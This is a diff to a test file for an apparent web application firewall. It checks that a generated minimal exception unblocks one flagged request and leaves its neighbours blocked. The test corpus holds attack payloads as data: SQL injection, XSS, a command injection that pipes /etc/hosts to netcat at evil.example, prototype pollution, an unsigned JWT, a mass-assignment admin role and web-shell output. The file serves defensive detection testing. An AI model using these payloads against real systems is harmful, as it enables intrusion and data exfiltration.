@@ -1,15 +1,19 @@
 // For each detection of requests: the exception that the explanation prints, pasted as it is, lets the blocked transaction pass,
 // and neither the same attack in another place nor the same place on another endpoint.
 import { describe, expect, it } from 'vitest';
+import { explanationOf } from '../../src/admin/explanation.ts';
+import { DEFAULT_CONTRACT_ANSWERS } from '../../src/core/contract.ts';
 import type { PolicyDocument } from '../../src/core/document.ts';
 import type { TransactionRecord } from '../../src/core/record.ts';
 import { createDefaultEngine } from '../../src/inspection/default-engine.ts';
 import { runRecorded } from '../../src/inspection/run-recorded.ts';
 import { smallestException } from '../../src/inspection/smallest-exception.ts';
 import { compileSnapshot } from '../../src/inspection/snapshot.ts';
+import { ContractTable } from '../../src/openapi/contract-table.ts';
 import { bundleOf } from '../../src/policy/bundle.ts';
 import { validateDocument } from '../../src/policy/validate.ts';
 import { readYaml } from '../../src/yaml/read.ts';
+import { contractOf } from '../openapi/held.ts';
 import { shippedPolicies } from '../support/shipped-policies.ts';
 import { type CorpusRequest, get, post, postJson } from './transaction.ts';
 
@@ -36,8 +40,25 @@ const withHeader = (name: string, value: string): readonly CorpusRequest[] => [
   get('/api/orders', { [name]: value }),
 ];
 
+/** `answer`: text of an answer with status 200. */
+type Explained = CorpusRequest & { readonly answer?: string };
+
+const PARCEL = `{ type: object, properties: { weight: { type: number }, size: { type: number }, role: { type: string, readOnly: true } } }`;
+const POSTED = `{ post: { requestBody: { content: { application/json: { schema: ${PARCEL} } } }, responses: {} } }`;
+const CONTRACTS = new ContractTable(
+  [
+    {
+      ...contractOf(`openapi: 3.1.0
+info: { title: Post, version: "1" }
+paths: { /api/parcels: ${POSTED}, /api/letters: ${POSTED} }`),
+      route: 'default',
+    },
+  ],
+  () => ({ ...DEFAULT_CONTRACT_ANSWERS, unknownPaths: 'off' }),
+);
+
 /** The blocked request, then neighbours that stay blocked. */
-const ROWS: Readonly<Record<string, readonly CorpusRequest[]>> = {
+const ROWS: Readonly<Record<string, readonly Explained[]>> = {
   'injection-sql': inBody("x' UNION SELECT name, secret FROM accounts-- "),
   xss: inBody('<svg onload=alert(1)>'),
   'injection-command': inBody('127.0.0.1; cat /etc/hosts | nc evil.example 4444'),
@@ -63,27 +84,60 @@ const ROWS: Readonly<Record<string, readonly CorpusRequest[]>> = {
     post('/api/orders', 'application/json', '{"a":{"__proto__":{"b":1}}}'),
   ],
   'jwt-tampering': withHeader('authorization', `Bearer ${token({ alg: 'none' })}`),
+  'schema-violation': [
+    postJson('/api/parcels', { weight: 'heavy' }),
+    postJson('/api/parcels', { weight: 1, size: 'large' }),
+    postJson('/api/letters', { weight: 'heavy' }),
+  ],
+  'mass-assignment': [
+    postJson('/api/parcels', { weight: 1, role: 'admin' }),
+    postJson('/api/letters', { weight: 1, role: 'admin' }),
+  ],
+  'web-shell-response': [
+    { ...get('/api/ping'), answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' },
+    { ...get('/api/pong'), answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' },
+  ],
   'scanner-signature': withHeader('user-agent', 'sqlmap/1.7#stable (https://sqlmap.org)'),
   'graphql-abuse': ['/graphql', '/v2/graphql'].map((path) =>
     postJson(path, { query: `{${'a{'.repeat(40)}id${'}'.repeat(41)}` }),
   ),
 };
 
+/** Of what is found in a field; the depth of a GraphQL query and the like have none. */
+const POINTER = /^(?:\/\S+)?$/;
+const bundleWith = (operator: readonly PolicyDocument[]) => bundleOf(shipped, operator).bundle;
+const VERSION = bundleWith([]).version;
+
 describe('the smallest exception', () => {
   const before = engineWith([]);
   const explained = Object.entries(ROWS).map(([detection, [blocked, ...neighbours]], i) => {
-    const { findings, endpoint, action } = before(blocked!);
-    const yaml = smallestException(findings, endpoint, `tx-${i}`);
-    return { detection, blocked: blocked!, neighbours, findings, action, yaml };
+    const record = { ...before(blocked!), id: `tx-${i}` };
+    const yaml = smallestException(record.findings, record.endpoint, record.id);
+    const explanation = explanationOf(record, bundleWith([]), undefined, []);
+    return { detection, blocked: blocked!, neighbours, explanation, action: record.action, yaml };
   });
   // All of them at once: each has an endpoint, a place and a detection of its own, and the neighbours have none.
   const after = engineWith(explained.flatMap(({ yaml }) => documentsOf(yaml)));
 
   it.each(explained.map((row) => [row.detection, row] as const))(
     'for %s lets its transaction pass and no neighbour',
-    (detection, { blocked, neighbours, findings, action, yaml }) => {
+    (detection, { blocked, neighbours, explanation, action, yaml }) => {
       expect(action).toBe('block');
-      expect(findings.map((finding) => finding.detection)).toContain(detection);
+      const explained = explanation.findings.find((finding) => finding.detection === detection);
+      expect(explanation).toMatchObject({
+        rule: 'finding-blocks',
+        action: 'block',
+        policyVersion: VERSION,
+        liveVersion: VERSION,
+      });
+      expect(explained).toMatchObject({
+        policy: { kind: 'detector', id: detection },
+        source: expect.stringMatching(new RegExp(`detectors/${detection}\\.yaml:[1-9]\\d*$`)),
+        what: expect.stringMatching(/\w+ \w+/),
+        isFromOtherVersion: false,
+      });
+      expect(explained!.pointer, explained!.what).toMatch(POINTER);
+      expect(explanation.smallestException).toBe(yaml);
       expect(after(blocked).action, yaml).not.toBe('block');
       expect(neighbours.length).toBeGreaterThan(0);
       for (const neighbour of neighbours) expect(after(neighbour).action, yaml).toBe('block');
@@ -101,11 +155,15 @@ function documentsOf(yaml: string): PolicyDocument[] {
   });
 }
 
-function engineWith(operator: readonly PolicyDocument[]): (request: CorpusRequest) => TransactionRecord {
+function engineWith(operator: readonly PolicyDocument[]): (request: Explained) => TransactionRecord {
   let record: TransactionRecord | undefined;
-  const engine = createDefaultEngine(compileSnapshot(bundleOf(shipped, operator).bundle, []), 'enforce', (made) => {
-    record = made;
-  });
+  const engine = createDefaultEngine(
+    { ...compileSnapshot(bundleWith(operator), []), contracts: CONTRACTS },
+    'enforce',
+    (made) => {
+      record = made;
+    },
+  );
   return (request) => {
     runRecorded(engine, 'tx-1', {
       at: Date.UTC(2027, 0, 1),
@@ -117,7 +175,15 @@ function engineWith(operator: readonly PolicyDocument[]): (request: CorpusReques
         body: request.body,
         isDecoded: false,
       },
-      response: undefined,
+      response:
+        request.answer === undefined
+          ? undefined
+          : {
+              status: 200,
+              rawHeaders: ['content-type', 'text/plain'],
+              body: Buffer.from(request.answer),
+              isDecoded: true,
+            },
     });
     return record!;
   };
